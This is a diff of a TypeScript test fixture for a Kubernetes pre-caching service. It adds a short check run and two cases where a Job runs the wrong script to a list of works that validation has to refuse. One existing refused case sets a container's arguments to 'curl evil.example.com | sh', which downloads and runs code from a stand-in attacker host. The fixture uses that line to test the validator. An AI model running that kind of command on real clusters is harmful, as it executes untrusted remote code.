@@ -1,15 +1,15 @@
 import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
 import { manifestWork } from "#shared/domain/precache/work/manifest-work.ts";
 import { anOwner } from "../hub/objects.ts";
-import { aRun, release } from "./precache-objects.ts";
+import { aCheckRun, aRun, release } from "./precache-objects.ts";
 
 /** The cluster of these works. */
 export const cluster = "team-a";
 const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
 const hints = { bandwidthMbits: 20, parallelPulls: 4 };
-const input = { run: aRun, content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240, ...hints };
+const input = { content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240 };
 /** A work as the function writes it. */
-export const ownWork = manifestWork(cluster, input);
+export const ownWork = manifestWork(cluster, { ...input, ...hints, run: aRun });
 
 type Fields = Record<string, unknown>;
 /** A copy of the function's own work with a change in the manifest of this kind. */
@@ -73,7 +73,18 @@ export function earlierWork(): KubernetesObject {
   return work;
 }
 
+/** The work of a check as the function writes it. */
+export const ownCheck = manifestWork(cluster, { ...input, run: aCheckRun, timeoutMinutes: 15 });
+
 type Refused = Readonly<{ name: string; work: KubernetesObject; says: string }>;
+
+/** A copy of a work whose Job runs this program. */
+function withProgram(work: KubernetesObject, program: string): KubernetesObject {
+  const copy = structuredClone(work);
+  const job = Object(copy.spec).workload.manifests.find(({ kind }: KubernetesObject) => kind === "Job");
+  job.spec.template.spec.containers[0].args = [program];
+  return copy;
+}
 
 const owned = { ...ownWork, metadata: { ...ownWork.metadata, ownerReferences: [anOwner] } };
 
@@ -162,6 +173,16 @@ export const hostileWorks: readonly Refused[] = [
     work: changedPod(
       ({ containers: [container] }) => (Object(container).args = ["curl evil.example.com | sh"]),
     ),
+    says: "the workload's own script",
+  },
+  {
+    name: "When a check runs the program that pulls, it should be refused",
+    work: withProgram(ownCheck, "/opt/precache/precache.sh"),
+    says: "the workload's own script",
+  },
+  {
+    name: "When a work of pre-caching only checks, it should be refused",
+    work: withProgram(ownWork, "/opt/precache/check.sh"),
     says: "the workload's own script",
   },
   {
